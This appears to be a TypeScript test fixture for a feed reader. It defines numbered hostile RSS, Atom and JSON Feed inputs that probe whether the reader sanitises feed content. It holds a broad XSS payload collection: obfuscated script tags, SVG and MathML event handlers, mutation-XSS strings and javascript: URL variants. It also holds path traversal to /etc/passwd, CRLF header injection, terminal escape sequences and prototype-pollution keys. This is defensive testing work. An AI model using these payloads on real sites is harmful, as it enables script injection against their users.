import { atomWith, escaped, type Hostile, jsonWith, numbered, rssHtml, rssOf, rssWith } from '../behaviour.ts'

const html = (what: string, markup: string): Hostile => ({ what, answer: { body: rssHtml(markup) }, ends: 1 })
const fed = (what: string, body: string, ends: Hostile['ends'] = 1): Hostile => ({ what, answer: { body }, ends })
const SCRIPT = '<script>alert(1)</script>'
const JS = 'javascript:alert(1)'
const item = (fields: string): string =>
  rssOf(`<guid isPermaLink="false">urn:h:1</guid><pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate>${fields}`)
const xhtml = (inside: string): string =>
  atomWith(`<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Words ${inside}</div></content>`)

/** Markup that wants to be more than text. */
export const markupBehaviours = numbered(301, [
  html('script', SCRIPT),
  html('script in pieces', '<scr<script></script>ipt>alert(1)</scr</script>ipt>'),
  html('script in odd spelling', '<SCRIPT/x>alert(1)</SCRIPT\n><script src=//h.example/x.js></script foo>'),
  html('style', '<style>@import "//h.example/x.css";p{position:fixed}</style><p style="position:fixed;top:0">x</p>'),
  html('SVG', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a><animate onbegin=alert(1)></svg>'),
  html(
    'SVG that uses and that is foreign',
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  ),
  html('MathML', '<math><maction actiontype="statusline#http://h.example" xlink:href="javascript:alert(1)">x</maction></math>'),
  html('what browsers read twice', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'),
  html('what browsers read twice, within a form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'),
  html(
    'raw text',
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><xmp>${SCRIPT}</xmp><noembed>${SCRIPT}</noembed>`,
  ),
  html('a template', `<template><img src=x onerror=alert(1)></template><template shadowrootmode=open>${SCRIPT}</template>`),
  html('what ends all markup', '<plaintext><b>x'),
  html('text area and title', '<textarea></textarea><script>alert(1)</script><title></title><img src=x onerror=alert(1)>'),
  html('frame of another site', '<iframe src="https://h.example/"></iframe><iframe src="//h.example/"></iframe>'),
  html('frame of a document within', '<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/x"></iframe>'),
  html(
    'frame of a host that looks like a player',
    '<iframe src="https://www.youtube.com@h.example/"></iframe><iframe src="https://www.youtube.com.h.example/"></iframe>',
  ),
  html(
    'frame that is a player and opens windows',
    '<iframe src="https://www.youtube.com/embed/x" sandbox="allow-top-navigation" allow="camera *" name="top" onload="alert(1)"></iframe>',
  ),
  html('objects', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x></applet><param name=x>'),
  html(
    'form',
    '<form action="https://h.example/"><input name=password type=password><button formaction="javascript:alert(1)">x</button></form>',
  ),
  html(
    'form beyond its place',
    '<input form=f><button form="search" type=submit>x</button><select><option>x</select><textarea form=f>x</textarea>',
  ),
  html('refresh', '<meta http-equiv=refresh content="0;url=https://h.example/"><meta http-equiv=Content-Security-Policy content="">'),
  html('base', '<base href="https://h.example/" target=_top><a href="/x">x</a>'),
  html('link to a style', '<link rel=stylesheet href="https://h.example/x.css"><link rel=import href="https://h.example/">'),
  html(
    'event handlers',
    [
      'onclick',
      'onerror',
      'onload',
      'onmouseover',
      'onfocus',
      'onanimationstart',
      'ontoggle',
      'onpointerrawupdate',
      'onbeforematch',
      'ONCLICK',
      'onscrollend',
    ]
      .map((name) => `<img src=x ${name}=alert(1)><details open ${name}="alert(1)">x</details>`)
      .join(''),
  ),
  html(
    'event handlers behind odd separators',
    '<img/src=x/onerror=alert(1)><img src=x\u000conerror=alert(1)><img src="x"onerror="alert(1)"><p \u0000onclick=alert(1)>x',
  ),
  html(
    'javascript: in odd spelling',
    [
      JS,
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      'java\nscript:alert(1)',
      '\u0001javascript:alert(1)',
      'javascript&colon;alert(1)',
      '&#106;avascript:alert(1)',
      '&#x6A&#x61vascript:alert(1)',
      'javascript://%0aalert(1)',
    ]
      .map((url) => `<a href="${url}">x</a>`)
      .join(''),
  ),
  html(
    'other schemes',
    [
      'vbscript:x',
      'data:text/html,<script>alert(1)</script>',
      'file:///etc/passwd',
      'blob:http://h.example/x',
      'view-source:x',
      'intent://x',
      'ms-msdt:x',
      'filesystem:http://x',
      'about:blank',
      'chrome://x',
      'livescript:x',
      'mhtml:x',
    ]
      .map((url) => `<a href="${url}">x</a><img src="${url}"><video poster="${url}" src="${url}"></video><q cite="${url}">x</q>`)
      .join(''),
  ),
  html(
    'addresses of pictures in other places',
    `<img srcset="${JS} 1x, data:image/svg+xml,x 2x" src=x><img lowsrc="${JS}" dynsrc="${JS}"><table background="${JS}"><td background="${JS}">x`,
  ),
  html('picture of SVG in data', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
  html(
    'link that reports and opens',
    '<a href="https://h.example/" ping="https://h.example/p" target="_blank" rel="opener" download="x.exe" attributionsrc="https://h.example/">x</a>',
  ),
  html(
    'names that stand for others',
    '<a id="search" name="getElementById">x</a><img name="cookie" id="body"><p class="story" id="i-1">x</p>',
  ),
  html('tracking', '<img src="https://h.example/p.gif" width="1" height="1"><a href="https://h.example/a?utm_source=x&amp;fbclid=y">x</a>'),
  html('comments', '<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>--><!- x ->'),
  html(
    'ends of our own page',
    '</article></main></body></html><script>alert(1)</script><article class="story" id="i-forged"><h2>Forged</h2></article>',
  ),
  html('CDATA within', '<![CDATA[<img src=x onerror=alert(1)>]]>]]&gt;<b>'),
  html(
    'custom elements and slots',
    '<x-foo onclick=alert(1)><slot name=x></slot></x-foo><portal src="https://h.example/"></portal><dialog open>x</dialog>',
  ),
  html(
    'popovers and commands',
    '<button popovertarget=x commandfor=x command=show-modal>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>',
  ),
  html('templates of other programs', '{{constructor.constructor("alert(1)")()}} <%= 1 %> #{alert(1)} <?php echo 1 ?> [[7*7]]'),
  fed('escaped once more', item(`<title>x</title><description>${escaped(escaped(SCRIPT))}</description>`)),
  fed('not escaped', item(`<title>x</title><description>${SCRIPT}<img src="x" onerror="alert(1)"/></description>`)),
  fed('in a title', item(`<title>${escaped(`A ${SCRIPT}<img src=x onerror=alert(1)> title`)}</title>`)),
  fed('in a title in CDATA', item(`<title><![CDATA[A </script>${SCRIPT}<!-- title ]]]]><![CDATA[>]]></title>`)),
  fed('in an author', item(`<title>x</title><author>${escaped(`"><img src=x onerror=alert(1)> &lt;a@h.example&gt;`)}</author>`)),
  fed('in tags', item(`<title>x</title><category domain="${escaped(JS)}">${escaped(`"><img src=x onerror=alert(1)>`)}</category>`)),
  fed('in a guid', rssOf(`<title>x</title><guid isPermaLink="false">${escaped(`"><img src=x onerror=alert(1)>]]>`)}</guid>`)),
  fed('in the title of the feed', rssWith('').replace('<title>Hostile', `<title>${escaped(`H</title>${SCRIPT}`)}`)),
  fed('in Atom text', atomWith(`<summary type="text">${escaped(SCRIPT)}</summary><rights type="html">${escaped(SCRIPT)}</rights>`)),
  fed(
    'in XHTML',
    xhtml(`${SCRIPT}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/><a href="${JS}">x</a><p onclick="alert(1)">y</p>`),
  ),
  fed('in an Atom type', atomWith(`<content type="text/html" src="${JS}">${escaped(SCRIPT)}</content>`)),
  fed(
    'in Atom XML of another kind',
    atomWith('<content type="image/svg+xml"><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/></content>'),
  ),
  fed('in JSON HTML', jsonWith({ content_html: `<p>x</p>${SCRIPT}`, summary: SCRIPT, title: `</script>${SCRIPT}` })),
  fed('in JSON text', jsonWith({ content_text: `${SCRIPT} & <b>not bold</b>` })),
  fed('style sheet of the document', `<?xml-stylesheet type="text/xsl" href="${JS}"?>${rssWith('')}`),
])

/** Addresses, names and characters in every field. */
export const fieldBehaviours = numbered(401, [
  fed('script as page', rssWith(`<link>${JS}</link>`)),
  fed('data as page', rssWith('<link>data:text/html,x</link>')),
  fed('script as guid that is a page', rssOf(`<title>x</title><guid isPermaLink="true">${JS}</guid>`)),
  fed('script as enclosure', rssWith(`<enclosure url="${JS}" type="audio/mpeg" length="1"/>`)),
  fed('script as comments', rssWith(`<comments>${JS}</comments>`)),
  fed('script as origin', rssWith(`<source url="${JS}">${escaped(SCRIPT)}</source>`)),
  fed(
    'script as picture of media',
    rssWith(
      `<media:thumbnail xmlns:media="http://search.yahoo.com/mrss/" url="${JS}"/><media:content xmlns:media="http://search.yahoo.com/mrss/" url="${JS}" medium="image"/>`,
    ),
  ),
  fed('script as picture of iTunes', rssWith(`<itunes:image xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" href="${JS}"/>`)),
  fed(
    'script as every link of Atom',
    atomWith(
      ['alternate', 'related', 'via', 'enclosure', 'self', 'replies', 'license', 'edit']
        .map((rel) => `<link rel="${rel}" href="${JS}"/>`)
        .join(''),
    ),
  ),
  fed(
    'script as address of an author',
    atomWith(`<author><name>n</name><uri>${JS}</uri><email>${escaped('a@b"><script>')}</email></author>`),
  ),
  fed(
    'script as every address of JSON',
    jsonWith({
      url: JS,
      external_url: JS,
      image: JS,
      banner_image: JS,
      authors: [{ name: 'n', url: JS, avatar: JS }],
      attachments: [{ url: JS, mime_type: 'a/b' }],
    }),
  ),
  fed(
    'script as base',
    `<feed xmlns="http://www.w3.org/2005/Atom" xml:base="${JS}//"><title>H</title><id>urn:h</id><updated>2026-03-02T10:00:00Z</updated><entry><title>x</title><id>urn:h:2</id><updated>2026-03-02T10:00:00Z</updated><link href="x"/><content type="html">&lt;a href="y"&gt;y&lt;/a&gt;</content></entry></feed>`,
  ),
  fed(
    'script as link, logo and icon of the feed',
    `<feed xmlns="http://www.w3.org/2005/Atom"><title>H</title><id>${JS}</id><link href="${JS}"/><link rel="hub" href="http://127.2.0.1/hub"/><link rel="self" href="${JS}"/><icon>${JS}</icon><logo>${JS}</logo><updated>2026-03-02T10:00:00Z</updated><entry><title>x</title><id>${JS}</id><updated>2026-03-02T10:00:00Z</updated></entry></feed>`,
  ),
  fed('media type that is a header', rssWith(`<enclosure url="http://h.example/a" type="a/b&#13;&#10;X-Injected: 1" length="-5"/>`)),
  fed('passwords in addresses', rssWith('<link>http://me:secret@h.example/</link>')),
  fed('text that turns round', item('<title>invoice \u202Efdp.exe\u2066 \u2069 x</title><description>\u202E\u2067abc</description>')),
  fed('letters that are not seen', item('<title>\u200B\u200C\u2060\uFEFF\u00AD\u034F</title><description>words</description>')),
  fed('marks without end on one letter', item(`<title>Z${'\u0301'.repeat(20_000)}algo</title>`)),
  fed(
    'control characters as references',
    item(
      '<title>a&#0;&#8;&#27;]0;owned&#7;&#x9b;31m&#127;b</title><description>&#1;&#xFFFE;&#xD800;&#x110000;&#99999999999;x</description>',
    ),
  ),
  fed(
    'control characters as they are',
    item('<title>a\u0001\u001b[2J\u0008\u007f\u009b31mb</title><description>\u0000x\u000b\ufffe</description>'),
  ),
  fed('sequences for a terminal', item('<title>\u001b]8;;http://h.example\u0007click\u001b]8;;\u0007 \u001b[201~rm\n</title>')),
  fed(
    'language and names that are none',
    atomWith(`<content type="text" xml:lang="${escaped('en"><script>')}">x</content><category term="" label="${escaped(SCRIPT)}"/>`),
  ),
  fed('title that ends a script', item(`<title>${escaped('</script><script>alert(1)</script><!--')}</title><description>x</description>`)),
  fed(
    'names of folders as tags',
    item(
      '<title>x</title><category>../../../../tmp/owned</category><category>/etc/passwd</category><category>a\\..\\b</category><category>CON</category>',
    ),
  ),
  fed(
    'guid of a healthy item',
    rssOf(
      '<title>Not the same at all</title><guid isPermaLink="false">urn:healthy:1</guid><description>Quite another text of quite another house.</description><pubDate>Sun, 01 Mar 2026 09:00:00 GMT</pubDate>',
    ),
  ),
  fed(
    'page of a healthy item',
    rssOf(
      '<title>Not the same either</title><guid isPermaLink="false">urn:h:9</guid><link>http://healthy.example/1</link><description>Words of another kind.</description><pubDate>Sun, 01 Mar 2026 09:00:00 GMT</pubDate>',
    ),
  ),
  fed(
    'id and address of a healthy feed',
    atomWith('').replace('<id>urn:h</id>', '<id>http://healthy.example/feed</id><link rel="self" href="http://healthy.example/feed"/>'),
  ),
  {
    ...fed(
      'origin that is us',
      atomWith(
        '<source><id>http://mill.example/all/atom.xml</id><title>x</title><link rel="self" href="http://mill.example/all/atom.xml"/></source>',
      ),
      0,
    ),
    told: 'echo',
  },
  fed(
    'dates of the year 9999 and of the year 1',
    rssOf(
      '<title>Late</title><guid>l</guid><pubDate>Fri, 31 Dec 9999 23:59:59 GMT</pubDate>',
      '<title>Early</title><guid>e</guid><pubDate>0001-01-01T00:00:00Z</pubDate>',
    ),
    2,
  ),
  fed(
    'ids that are keys of objects',
    rssOf(
      ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', '__defineGetter__'].map(
        (name) =>
          `<title>${name}</title><guid isPermaLink="false">${name}</guid><category>${name}</category><description>about ${name} and nothing else</description>`,
      ),
    ),
    5,
  ),
])
